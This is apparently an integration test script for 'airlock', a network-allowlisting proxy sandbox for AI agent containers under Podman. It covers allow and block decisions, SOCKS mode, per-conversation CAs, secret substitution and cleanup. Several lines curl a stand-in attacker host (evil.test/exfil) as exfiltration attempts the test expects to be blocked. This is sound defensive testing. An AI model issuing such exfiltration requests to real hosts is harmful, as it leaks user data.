#!/bin/bash
# The proxy container and its Podman lifecycle, with real podman: build the FROM-scratch image,
# `airlock-sandbox setup/start/client-args/run/stop/cleanup`, and an agent container (a
# FROM-scratch image holding curl, getent and their shared libraries) on the internal network,
# without and with ALL_PROXY=socks5h:// (`client-args --socks`, the proxy's SOCKS5 on :1080).
#
# Hermetic: everything runs in network and mount namespaces of the test's own (bridges,
# iptables rules, /run/netns, /run/runc and netavark's state on tmpfs), with a containers.conf,
# storage, network config directory and lock directory in the test's temp dir. Upstreams: nginx
# (test CA) and dnsmasq (*.test -> the egress gateway) on the egress bridge's gateway address,
# which the proxy reaches through the egress network; UPSTREAM_DNS is that address.
#
# The static airlock: $AIRLOCK when it is static, else $AIRLOCK_STATIC_BINARY, else a Release
# build with -DAIRLOCK_STATIC=ON in $AIRLOCK_BUILD/container-static (AIRLOCK_CMAKE_ARGS adds
# cmake arguments). Exit 77 (with the reason) when podman cannot run containers here.
. "$(dirname "$0")/lib.sh"

if [ -z "${AIRLOCK_IN_NETNS:-}" ]; then
    [ "$(id -u)" = 0 ] || t_skip root "needs root (podman networks, namespaces)"
    for tool in podman runc flock timeout readelf strip nft ldd; do
        command -v "$tool" >/dev/null ||
            t_skip package "$tool is not installed (apt-get install podman runc nftables)"
    done
fi
t_enter_netns "$@"

SANDBOX=$AIRLOCK_SRC/container/airlock-sandbox
BUILD_IMAGE=$AIRLOCK_SRC/container/build-image.sh
P=alt   # the name prefix of everything this test creates
export AIRLOCK_PREFIX=$P AIRLOCK_STATE_DIR=$T_DIR/state AIRLOCK_CONFDIR=$T_DIR/confdir
export AIRLOCK_IMAGE=localhost/alt-proxy:latest AIRLOCK_IMAGE_NAME=localhost/alt-proxy

# ---- a private podman -------------------------------------------------------------------
t_private_podman "$T_DIR" || { echo "FAIL: a private podman"; exit 1; }
t_overlay_var || { echo "FAIL: cannot overlay /var/lib and /var/cache"; exit 1; }

c_cleanup() {
    "$SANDBOX" teardown >/dev/null 2>&1
    t_podman_clear
    # the overlay mounts live in this mount namespace; drop them before removing the files
    umount -l /var/lib /var/cache 2>/dev/null
    grep -o " $T_DIR/[^ ]*" /proc/self/mounts | sort -r | xargs -r -n1 umount -l 2>/dev/null
    t_cleanup
}
trap c_cleanup EXIT

# ---- the images ---------------------------------------------------------------------------
if ! readelf -lW "$AIRLOCK" 2>/dev/null | grep -q 'program interpreter'; then
    STATIC=$AIRLOCK
elif [ -n "${AIRLOCK_STATIC_BINARY:-}" ]; then
    STATIC=$AIRLOCK_STATIC_BINARY
else
    STATIC_DIR=${AIRLOCK_BUILD:-$AIRLOCK_SRC/build}/container-static
    echo "# building a static airlock in $STATIC_DIR"
    "$BUILD_IMAGE" --build-dir "$STATIC_DIR" > /dev/null 2> "$T_DIR/build-image.log" || {
        echo "FAIL - the static build:"; tail -n 30 "$T_DIR/build-image.log"; exit 1; }
    STATIC=$STATIC_DIR/airlock
fi
t0=$(date +%s)
IMG=$("$BUILD_IMAGE" --binary "$STATIC" 2>> "$T_DIR/build-image.log")
rc=$?
if [ $rc -ne 0 ] || [ -z "$IMG" ]; then
    echo "FAIL - build-image.sh (rc $rc):"; tail -n 30 "$T_DIR/build-image.log"
    exit 1
fi
t_ok "image $IMG built in $(($(date +%s) - t0)) s"

# Can podman run a container here at all? If not, say why and skip.
if ! out=$(podman run --rm --network none --entrypoint /airlock "$IMG" --version 2>&1); then
    t_skip podman "podman cannot run containers here: $(echo "$out" | tail -n 3 | tr '\n' ' ')"
fi
t_eq "the image runs the static airlock" "airlock" "${out%% *}"

size=$(podman image inspect --format '{{.Size}}' "$IMG")
if [ "$size" -lt $((15 * 1000 * 1000)) ]; then t_ok "image size $size bytes (< 15 MB)"
else t_fail "image size $size bytes (>= 15 MB)"; fi
podman create --name "$P-inspect" "$IMG" >/dev/null 2>&1
files=$(podman export "$P-inspect" | tar -t | grep -v '/$' | grep -v -e '^etc/' -e '^run/' \
    -e '^dev/' -e '^proc/' -e '^sys/' | sort | tr '\n' ' ')
podman rm -f "$P-inspect" >/dev/null 2>&1
# nft and its libraries serve the Kubernetes init container (container/k8s/)
expected=$({ printf '%s\n' airlock usr/lib/ssl/cert.pem usr/sbin/nft
    ldd /usr/sbin/nft | awk '/=> \// { print $3 } /^\t\// { print $1 }' | sed 's|^/||'; } |
    sort | tr '\n' ' ')
t_eq "the image holds the binary, the CA bundle, and nft with its libraries only" "$expected" \
    "$files"
out=$(podman run --rm --network none "$IMG" 2>&1)
rc=$?
t_eq "no UPSTREAM_DNS: exit 1" 1 "$rc"
t_contains "no UPSTREAM_DNS: says so" "$out" "UPSTREAM_DNS"

# The agent image: curl, getent and dash with their shared libraries and the loader.
mkdir -p "$T_DIR/client/root"
for bin in /usr/bin/curl /usr/bin/getent /bin/dash /bin/sleep; do
    for f in "$bin" $(ldd "$bin" | awk '/=> \// { print $3 } /^\t\// { print $1 }'); do
        mkdir -p "$T_DIR/client/root$(dirname "$f")"
        cp -L "$f" "$T_DIR/client/root$f"
    done
done
mkdir -p "$T_DIR/client/root/tmp"
printf 'FROM scratch\nCOPY root/ /\n' > "$T_DIR/client/Containerfile"
podman build -q --pull=never -t localhost/alt-client:latest -f "$T_DIR/client/Containerfile" \
    "$T_DIR/client" > "$T_DIR/client.log" 2>&1 || { cat "$T_DIR/client.log"; exit 1; }
CLIENT=localhost/alt-client:latest

# ---- setup --------------------------------------------------------------------------------
out=$("$SANDBOX" setup 2>&1)
t_eq "setup" 0 $?
t_check "setup made the CA" test -s "$T_DIR/confdir/mitmproxy-ca-cert.pem"
t_check "setup made the egress network" podman network exists "$P-egress"
out=$("$SANDBOX" setup 2>&1)
t_eq "setup again keeps everything" 0 $?
GW=$(podman network inspect "$P-egress" --format '{{range .Subnets}}{{.Gateway}}{{end}}')
t_check "egress gateway $GW" test -n "$GW"

# Upstreams on the gateway address (the bridge appears with the first container).
sysctl -qw net.ipv4.ip_nonlocal_bind=1
dnsmasq --keep-in-foreground --no-resolv --no-hosts --conf-file=/dev/null \
    --listen-address="$GW" --bind-dynamic --port=53 --address=/test/"$GW" \
    --log-facility=- -q > "$T_DIR/dnsmasq.log" 2>&1 &
T_PIDS+=($!)
t_upstream_ca
t_upstream_cert "DNS:nginx.test,DNS:api.test" "$T_DIR/up"
mkdir -p "$T_DIR/www"
echo "hello from upstream" > "$T_DIR/www/index.html"
chmod -R a+rX "$T_DIR/www" "$T_DIR"/up.* "$T_DIR/upca.pem"
t_start_nginx "
    }
    server {
        listen $GW:80;
        root $T_DIR/www;
    }
    server {
        listen $GW:443 ssl;
        listen $GW:8443 ssl;
        ssl_certificate $T_DIR/up.pem; ssl_certificate_key $T_DIR/up.key;
        root $T_DIR/www;
        location /auth { if (\$http_authorization = \"Bearer real-secret-1\") { return 200 \"auth=real\\n\"; } return 200 \"auth=\$http_authorization\\n\"; }
" || exit 1

cat > "$T_DIR/allow.yaml" <<'YAML'
domains: ["nginx.test"]
url_prefixes:
  - host: nginx.test
    ports: [8443]
  - host: api.test
    path: /v1/*
    methods: [GET]
YAML

cat > "$T_DIR/repl.json" <<'JSON'
{"surrogate-token-1": {"value": "real-secret-1", "scopes": ["nginx.test"],
                       "headers": ["Authorization"]}}
JSON

# ---- start --------------------------------------------------------------------------------
LOG=$T_DIR/c1.log
t0=$(date +%s%N)
# the upstream nginx is the host, on the egress network's gateway (RFC 1918): allow it
IP1=$("$SANDBOX" start c1 --allowlist "$T_DIR/allow.yaml" --log "$LOG" --upstream-dns "$GW" \
    --upstream-ca "$T_DIR/upca.pem" --replacements "$T_DIR/repl.json" \
    --proxy-arg --allow-upstream-cidr --proxy-arg "$GW/32" 2> "$T_DIR/start.err")
rc=$?
ms=$((($(date +%s%N) - t0) / 1000000))
t_eq "start c1" "0|" "$rc|$(cat "$T_DIR/start.err")"
t_eq "start c1 prints the proxy IP" "10.199.1.100" "$IP1"
echo "# start took $ms ms"
t_check "the log file was created on the host" test -f "$LOG"
t_eq "proxy container runs" "running" \
    "$(podman container inspect -f '{{.State.Status}}' "$P-proxy-c1" 2>&1)"
t_eq "internal network is internal, without DNS" "true false 10.199.1.0/24" \
    "$(podman network inspect "$P-conv-c1" \
        --format '{{.Internal}} {{.DNSEnabled}} {{range .Subnets}}{{.Subnet}}{{end}}')"

mapfile -t CARGS < <("$SANDBOX" client-args c1)
t_eq "client-args" "--network $P-conv-c1 --dns 10.199.1.100 -v $T_DIR/confdir/mitmproxy-ca-cert.pem:/usr/local/share/ca-certificates/airlock-ca.crt:ro -e NODE_EXTRA_CA_CERTS=/usr/local/share/ca-certificates/airlock-ca.crt -e REQUESTS_CA_BUNDLE=/usr/local/share/ca-certificates/airlock-ca.crt -e SSL_CERT_FILE=/usr/local/share/ca-certificates/airlock-ca.crt -e CURL_CA_BUNDLE=/usr/local/share/ca-certificates/airlock-ca.crt -e GIT_SSL_CAINFO=/usr/local/share/ca-certificates/airlock-ca.crt -e PIP_CERT=/usr/local/share/ca-certificates/airlock-ca.crt" \
    "${CARGS[*]}"
eval "set -- $("$SANDBOX" client-args c1 --shell)"
t_eq "client-args --shell gives the same words" "${CARGS[*]}" "$*"
S5=socks5h://10.199.1.100:1080
mapfile -t CARGSS < <("$SANDBOX" client-args c1 --socks)
t_eq "client-args --socks: the same words, then ALL_PROXY and NO_PROXY (both cases)" \
    "${CARGS[*]} -e ALL_PROXY=$S5 -e all_proxy=$S5 -e NO_PROXY=localhost,127.0.0.1,::1 -e no_proxy=localhost,127.0.0.1,::1" \
    "${CARGSS[*]}"
eval "set -- $("$SANDBOX" client-args c1 --shell --socks)"
t_eq "client-args --shell --socks gives the same words" "${CARGSS[*]}" "$*"
out=$("$SANDBOX" client-args c1 --sox 2>&1)
t_eq "client-args with an unknown option: usage error" "2" "$?"
t_contains "the proxy runs a SOCKS5 listener on its sandbox address" \
    "$(podman container inspect -f '{{range .Config.Cmd}}{{.}} {{end}}' "$P-proxy-c1")" \
    "--listen-socks 10.199.1.100:1080"

client() { podman run --rm "${CARGS[@]}" "$CLIENT" "$@" 2>&1; }

out=$(client curl -s -m 10 -w ' %{http_code}' https://nginx.test/)
t_eq "agent: allowed HTTPS host answers 200 through the proxy" "hello from upstream
 200" "$out"
out=$(client curl -s -m 10 -H 'Authorization: Bearer surrogate-token-1' https://nginx.test/auth)
t_eq "agent: /replacements.json is mounted (the upstream gets the real secret)" \
    "auth=real" "$out"
out=$(client curl -s -m 10 -w ' %{http_code}' http://nginx.test/)
t_eq "agent: allowed plain HTTP" "hello from upstream
 200" "$out"
out=$(client curl -s -m 10 -w ' %{http_code}' https://evil.test/exfil?k=v)
t_contains "agent: blocked host gets the 403 JSON" "$out" \
    '"error": "blocked_by_network_allowlist", "host": "evil.test", "path": "/exfil?k=v"'
t_contains "agent: blocked is a 403" "$out" " 403"
out=$(client curl -s -m 10 -o /dev/null -w '%{http_code}' -X POST https://api.test/v1/x)
t_eq "agent: method not allowed is a 403" "403" "$out"

# Refused at once, not dropped: curl's error is not a timeout (28). No time is asserted.
for url in https://198.51.100.1/ http://198.51.100.1/ http://nginx.test:8080/ \
    https://nginx.test:8443/; do
    t0=$(date +%s%N)
    out=$(client curl -s -m 60 -o /dev/null -w '%{http_code}' "$url")
    rc=$?
    ms=$((($(date +%s%N) - t0) / 1000000))
    if [ "$out" = "000" ] && [ "$rc" -ne 0 ] && [ "$rc" -ne 28 ]; then
        t_ok "agent: $url is refused, not a timeout (curl exit $rc; $ms ms incl. container start)"
    else
        t_fail "agent: $url: [$out] curl exit $rc after $ms ms"
    fi
done

out=$(client getent ahostsv4 some-random-name.example.org)
t_contains "agent DNS: any name is the proxy IP" "$out" "10.199.1.100"
out=$(client getent ahostsv4 github.com)
t_contains "agent DNS: real names too" "$out" "10.199.1.100"
out=$(client curl -s -m 10 -o /dev/null -w '%{remote_ip}' http://whatever.example/)
t_eq "agent: connections land on the proxy" "10.199.1.100" "$out"

# c_logged "description" LINE [FILE]: waits (generously) for the exact line in the log.
c_logged() {
    local cl_line=$2 cl_file=${3:-$LOG}
    # shellcheck disable=SC2016 # expanded by until_ok's eval
    if until_ok 'grep -qxF -- "$cl_line" "$cl_file"' 30; then t_ok "$1"
    else t_fail "$1: no line [$cl_line] in $cl_file"; fi
}
c_logged "log: allowed HTTPS" 'allowed GET https://nginx.test/ -> 200'
c_logged "log: allowed HTTP" 'allowed GET http://nginx.test/ -> 200'
c_logged "log: blocked" 'BLOCKED GET https://evil.test/exfil?k=v -> 403'
c_logged "log: blocked method" 'BLOCKED POST https://api.test/v1/x -> 403'
c_logged "log: DNS" 'DNS A some-random-name.example.org -> 10.199.1.100'
t_check "log: task start" grep -q '^=== TASK START ' "$LOG"
if grep -q real-secret "$LOG"; then t_fail "the real secret is in the log"
else t_ok "the real secret is not in the log"; fi
if grep -q 198.51.100.1 "$LOG"; then t_fail "the external IP reached the proxy"
else t_ok "the external IP never reached the proxy"; fi

# ---- the same agent with ALL_PROXY=socks5h://<proxy ip>:1080 (client-args --socks) --------
sclient() { podman run --rm "${CARGSS[@]}" "$CLIENT" "$@" 2>&1; }
out=$(sclient curl -s -m 10 -w ' %{http_code}' https://nginx.test/)
t_eq "SOCKS agent: allowed HTTPS host answers 200" "hello from upstream
 200" "$out"
c_logged "log: ... decided as a SOCKS tunnel" 'allowed SOCKS nginx.test:443 -> 200'
out=$(sclient curl -s -m 10 -w ' %{http_code}' http://nginx.test/sx)
t_contains "SOCKS agent: plain HTTP inside the tunnel" "$out" " 404"
c_logged "log: ... its tunnel and its request" 'allowed SOCKS nginx.test:80 -> 200'
c_logged "log: ... the request inside" 'allowed GET http://nginx.test/sx -> 404'
out=$(sclient curl -s -m 10 -o /dev/null -w '%{http_code}' https://evil.test/socks)
t_eq "SOCKS agent: blocked host refused in the handshake (curl exit 97, no 403 body)" \
    "000 97" "$out $?"
c_logged "log: ... BLOCKED SOCKS" 'BLOCKED SOCKS evil.test:443 -> 403'
out=$(sclient curl -s -m 10 -w ' %{http_code}' https://api.test/v2/x)
t_contains "SOCKS agent: a path outside the entry still gets the 403 JSON inside the tunnel" \
    "$out" '"error": "blocked_by_network_allowlist", "host": "api.test", "path": "/v2/x"'
out=$(sclient curl -s -m 10 -w ' %{http_code}' https://nginx.test:8443/)
t_eq "SOCKS agent: a ports: entry (8443) works, which transparent mode cannot reach" \
    "hello from upstream
 200" "$out"
c_logged "log: ... SOCKS to port 8443" 'allowed SOCKS nginx.test:8443 -> 200'
out=$(sclient curl -s -m 10 -o /dev/null http://localhost:9/; echo "exit $?")
t_eq "SOCKS agent: NO_PROXY keeps localhost off the proxy (refused locally: 7)" "exit 7" "$out"
if grep -q 'SOCKS localhost' "$LOG"; then t_fail "localhost went to the proxy despite NO_PROXY"
else t_ok "localhost never reached the proxy"; fi

# The binary's default verify file is /usr/lib/ssl/cert.pem: an image whose bundle is the test
# CA verifies the upstream without --upstream-ca.
IMG2=$("$BUILD_IMAGE" --binary "$STATIC" --name localhost/alt-proxy-testca \
    --ca-bundle "$T_DIR/upca.pem" 2>> "$T_DIR/build-image.log")
IP2=$(AIRLOCK_IMAGE=$IMG2 "$SANDBOX" start c2 --allowlist "$T_DIR/allow.yaml" \
    --upstream-dns "$GW" --proxy-arg --allow-upstream-cidr --proxy-arg "$GW/32" \
    2> "$T_DIR/start2.err")
t_eq "start c2 (image with the test CA as its bundle) on the next subnet" "10.199.2.100|" \
    "$IP2|$(cat "$T_DIR/start2.err")"
mapfile -t CARGS2 < <("$SANDBOX" client-args c2)
out=$(podman run --rm "${CARGS2[@]}" "$CLIENT" curl -s -m 10 -w ' %{http_code}' \
    https://nginx.test/ 2>&1)
t_eq "the default bundle path verifies upstreams" "hello from upstream
 200" "$out"
"$SANDBOX" stop c2

# ---- stop ---------------------------------------------------------------------------------
t_eq "stop c1" "0" "$("$SANDBOX" stop c1 2>&1; echo $?)"
t_eq "no container left" "" "$(podman ps -a --format '{{.Names}}' | grep "^$P-proxy-")"
t_eq "no sandbox network left" "" "$(podman network ls --format '{{.Name}}' | grep "^$P-conv-")"
t_check "the log is kept" grep -q 'allowed GET https://nginx.test/ -> 200' "$LOG"
t_eq "stop is idempotent" "0" "$("$SANDBOX" stop c1 2>&1; echo $?)"
t_eq "stop of an unknown sandbox" "0" "$("$SANDBOX" stop never-started 2>&1; echo $?)"
out=$("$SANDBOX" client-args c1 2>&1)
t_eq "client-args of a stopped sandbox fails" "1" "$?"
t_contains "client-args of a stopped sandbox says why" "$out" "no sandbox c1"

# ---- a CA per conversation: the default when no CA directory is given ---------------------
CONVCA=$T_DIR/state/$P-ca-pc.pem
IPC=$(env -u AIRLOCK_CONFDIR "$SANDBOX" start pc --allowlist "$T_DIR/allow.yaml" \
    --log "$T_DIR/pc.log" --upstream-dns "$GW" --upstream-ca "$T_DIR/upca.pem" --ca-days 2 \
    --proxy-arg --allow-upstream-cidr --proxy-arg "$GW/32" 2> "$T_DIR/startpc.err")
t_eq "start pc without a CA directory" "0|" "$?|$(cat "$T_DIR/startpc.err")"
t_check "only the conversation CA's certificate came out to the host" test -s "$CONVCA"
if grep -q "PRIVATE KEY" "$CONVCA"; then t_fail "a private key came out of the proxy"
else t_ok "no private key came out of the proxy"; fi
text=$(openssl x509 -in "$CONVCA" -noout -text)
t_contains "it is name-constrained to the allowlist" "$text" "DNS:nginx.test"
t_contains "... and the proxy IP" "$text" "IP:$IPC/255.255.255.255"
t_check "it is not the shared CA" [ "$(openssl x509 -in "$CONVCA" -noout -fingerprint)" != \
    "$(openssl x509 -in "$T_DIR/confdir/mitmproxy-ca-cert.pem" -noout -fingerprint)" ]
mounts=$(podman container inspect -f '{{range .Mounts}}{{.Destination}} {{end}}' "$P-proxy-pc")
case $mounts in
*/mitmproxy-confdir*) t_fail "the conversation CA's directory is mounted from the host: $mounts" ;;
*) t_ok "the conversation CA's key stays in the proxy container (tmpfs, no host mount)" ;;
esac
mapfile -t CARGSC < <(env -u AIRLOCK_CONFDIR "$SANDBOX" client-args pc)
t_contains "client-args mounts the conversation's certificate" "${CARGSC[*]}" \
    "-v $CONVCA:/usr/local/share/ca-certificates/airlock-ca.crt:ro"
out=$(podman run --rm "${CARGSC[@]}" "$CLIENT" curl -s -m 10 -w ' %{http_code}' \
    https://nginx.test/ 2>&1)
t_eq "agent: an allowed host through the conversation CA" "hello from upstream
 200" "$out"
mapfile -t CARGSCS < <(env -u AIRLOCK_CONFDIR "$SANDBOX" client-args pc --socks)
out=$(podman run --rm "${CARGSCS[@]}" "$CLIENT" curl -s -m 10 -w ' %{http_code}' \
    https://nginx.test/ 2>&1)
t_eq "SOCKS agent: an allowed host through the conversation CA" "hello from upstream
 200" "$out"
out=$(podman run --rm "${CARGSC[@]}" "$CLIENT" curl -s -m 10 https://evil.test/ 2>&1)
t_eq "agent: a host outside the allowlist cannot get a certificate (handshake fails: 35)" \
    35 $?
c_logged "log: why" "TLS REJECTED evil.test (no certificate: not in the network allowlist, \
and outside the conversation CA's name constraints)" "$T_DIR/pc.log"
env -u AIRLOCK_CONFDIR "$SANDBOX" stop pc
t_check "stop removes the conversation's certificate" test ! -e "$CONVCA"

# ---- subnets: a taken /24 is skipped; concurrent starts get distinct subnets --------------
podman network create --internal --subnet 10.199.4.0/24 "$P-blocker" >/dev/null
echo 3 > "$T_DIR/state/last-octet"
IP=$("$SANDBOX" start s1 --allowlist "$T_DIR/allow.yaml" --upstream-dns "$GW" 2>&1)
t_eq "a subnet in use is skipped" "10.199.5.100" "$IP"
"$SANDBOX" stop s1
podman network rm -f "$P-blocker" >/dev/null
pids=()
for i in 1 2 3; do
    "$SANDBOX" start "p$i" --allowlist "$T_DIR/allow.yaml" --upstream-dns "$GW" \
        > "$T_DIR/p$i.ip" 2> "$T_DIR/p$i.err" &
    pids+=($!)
done
wait "${pids[@]}"
ips=$(cat "$T_DIR"/p?.ip | sort -u | wc -l)
t_eq "three concurrent starts: three distinct proxies" "3|" "$ips|$(cat "$T_DIR"/p?.err)"
for i in 1 2 3; do "$SANDBOX" stop "p$i"; done

# ---- cleanup ------------------------------------------------------------------------------
for k in k1 k2; do
    out=$("$SANDBOX" start "$k" --allowlist "$T_DIR/allow.yaml" --upstream-dns "$GW" 2>&1) ||
        t_fail "start $k: $out"
done
podman network create --internal --subnet 10.199.200.0/24 "$P-conv-stale" >/dev/null
podman kill "$P-proxy-k1" >/dev/null
out=$("$SANDBOX" cleanup 2>&1)
t_contains "cleanup removes the killed proxy" "$out" "removed container $P-proxy-k1"
t_contains "cleanup removes its network" "$out" "removed network $P-conv-k1"
t_contains "cleanup removes a network without a proxy" "$out" "removed network $P-conv-stale"
t_eq "cleanup keeps the live sandbox" "running $P-conv-k2" \
    "$(podman container inspect -f '{{.State.Status}}' "$P-proxy-k2") \
$(podman network ls --format '{{.Name}}' | grep "^$P-conv-" | tr '\n' ' ' | sed 's/ $//')"
podman network create --internal --subnet 10.199.201.0/24 "other-conv-x" >/dev/null
out=$("$SANDBOX" cleanup --all 2>&1)
t_contains "cleanup --all removes live sandboxes too" "$out" "removed container $P-proxy-k2"
t_eq "cleanup leaves other prefixes alone" "other-conv-x" \
    "$(podman network ls --format '{{.Name}}' | grep -- '-conv-')"
podman network rm -f other-conv-x >/dev/null

# ---- failures clean up after themselves ---------------------------------------------------
echo 'domains: [unclosed' > "$T_DIR/bad.yaml"
t0=$(date +%s)
out=$(timeout 120 "$SANDBOX" start bad --allowlist "$T_DIR/bad.yaml" --upstream-dns "$GW" 2>&1)
rc=$?
t_eq "start with an invalid allowlist fails (exit 1; 124 would be a hang)" 1 "$rc"
echo "# the failing start took $(($(date +%s) - t0)) s"
t_contains "and says why" "$out" "Proxy $P-proxy-bad exited during startup"
t_contains "with airlock's own words" "$out" "/network-allowlist.json:2:1: did not find expected"
t_eq "nothing left behind" "" "$(podman ps -a --format '{{.Names}}' | grep "^$P-proxy-")\
$(podman network ls --format '{{.Name}}' | grep "^$P-conv-")"
out=$("$SANDBOX" start pa --allowlist "$T_DIR/allow.yaml" --upstream-dns "$GW" \
    --proxy-arg --listen-https --proxy-arg off 2>&1)
t_eq "--proxy-arg reaches airlock run (HTTPS off: never healthy)" 1 "$?"
t_contains "--proxy-arg: the health check names the listener" "$out" \
    "https 127.0.0.1:443: connect: Connection refused"
t_eq "--proxy-arg: nothing left behind" "" \
    "$(podman ps -a --format '{{.Names}}' | grep "^$P-proxy-")"
out=$("$SANDBOX" start nodns --allowlist "$T_DIR/allow.yaml" 2>&1)
t_eq "no upstream DNS (resolv.conf here names loopback only): exit 1" 1 "$?"
t_contains "no upstream DNS: says so" "$out" "pass --upstream-dns"
AIRLOCK_UPSTREAM_DNS=$GW "$SANDBOX" start envdns --allowlist "$T_DIR/allow.yaml" >/dev/null 2>&1
t_eq "AIRLOCK_UPSTREAM_DNS reaches the proxy" "UPSTREAM_DNS=$GW" \
    "$(podman container inspect -f '{{range .Config.Env}}{{println .}}{{end}}' \
        "$P-proxy-envdns" 2>&1 | grep '^UPSTREAM_DNS=')"
"$SANDBOX" stop envdns
out=$("$SANDBOX" start x 2>&1)
t_eq "start without --allowlist: usage error" 2 "$?"
out=$("$SANDBOX" start 'a/b' --allowlist "$T_DIR/allow.yaml" 2>&1)
t_eq "start with a bad ID: usage error" 2 "$?"
out=$(AIRLOCK_IMAGE=localhost/none:latest "$SANDBOX" start x --allowlist "$T_DIR/allow.yaml" \
    --upstream-dns "$GW" 2>&1)
t_contains "a missing image is named" "$out" "image localhost/none:latest not found"

# ---- run ----------------------------------------------------------------------------------
out=$("$SANDBOX" run r1 --allowlist "$T_DIR/allow.yaml" --log "$T_DIR/r1.log" \
    --upstream-dns "$GW" --upstream-ca "$T_DIR/upca.pem" \
    --proxy-arg --allow-upstream-cidr --proxy-arg "$GW/32" -- "$CLIENT" \
    curl -s -m 10 https://nginx.test/ 2>&1)
t_eq "run: the client's output" "hello from upstream" "$out"
out=$("$SANDBOX" run r2 --allowlist "$T_DIR/allow.yaml" --upstream-dns "$GW" \
    --client-arg -e --client-arg WHO=agent -- "$CLIENT" \
    curl -s -f -m 10 -o /dev/null https://evil.test/ 2>&1)
t_eq "run: exits with the client's status (curl -f on a 403: 22)" "22" "$?"
t_check "run: its log" grep -qx 'allowed GET https://nginx.test/ -> 200' "$T_DIR/r1.log"
out=$("$SANDBOX" run r6 --allowlist "$T_DIR/allow.yaml" --log "$T_DIR/r6.log" \
    --upstream-dns "$GW" --upstream-ca "$T_DIR/upca.pem" --socks \
    --proxy-arg --allow-upstream-cidr --proxy-arg "$GW/32" -- "$CLIENT" \
    curl -s -m 10 https://nginx.test/ 2>&1)
t_eq "run --socks: the client's output" "hello from upstream" "$out"
t_check "run --socks: through the SOCKS listener" \
    grep -qx 'allowed SOCKS nginx.test:443 -> 200' "$T_DIR/r6.log"
out=$("$SANDBOX" run r3 --allowlist "$T_DIR/bad.yaml" --upstream-dns "$GW" -- "$CLIENT" \
    curl -s https://nginx.test/ 2>&1)
t_eq "run: a sandbox that cannot start exits 125" "125" "$?"
t_eq "run: nothing left behind" "" "$(podman ps -a --format '{{.Names}}' | grep "^$P-")\
$(podman network ls --format '{{.Name}}' | grep "^$P-conv-")"

# shellcheck disable=SC2016 # $x is for the agent's shell
out=$(echo "from the host" | "$SANDBOX" run r5 --allowlist "$T_DIR/allow.yaml" \
    --upstream-dns "$GW" --client-arg -i -- "$CLIENT" dash -c 'read -r x; echo "got: $x"' 2>&1)
t_eq "run: the agent reads our stdin (--client-arg -i)" "got: from the host" "$out"
"$SANDBOX" run r4 --allowlist "$T_DIR/allow.yaml" --upstream-dns "$GW" --client-arg --init \
    -- "$CLIENT" sleep 300 > "$T_DIR/r4.out" 2>&1 &
rpid=$!
# shellcheck disable=SC2016 # expanded by until_ok's eval
until_ok '[ "$(podman ps --filter "network=$P-conv-r4" --format "{{.Names}}" | wc -l)" -ge 2 ]' 120 ||
    t_fail "run r4: the proxy and the agent never both ran"
t0=$(date +%s)
kill -TERM "$rpid"
# shellcheck disable=SC2016 # expanded by until_ok's eval
if until_ok '! kill -0 "$rpid" 2>/dev/null' 120; then
    wait "$rpid"
    rc=$?
    echo "# SIGTERM handled in $(($(date +%s) - t0)) s"
else
    rc="still running 120 s after SIGTERM"
fi
t_eq "run: SIGTERM ends the agent and the sandbox (exit 143)" 143 "$rc"
t_eq "run: nothing left after SIGTERM" "" "$(podman ps -a --format '{{.Names}}')\
$(podman network ls --format '{{.Name}}' | grep "^$P-conv-")"

# ---- teardown -----------------------------------------------------------------------------
out=$("$SANDBOX" teardown 2>&1)
t_eq "teardown" 0 $?
t_eq "teardown removed the egress network" 1 "$(podman network exists "$P-egress"; echo $?)"

t_done
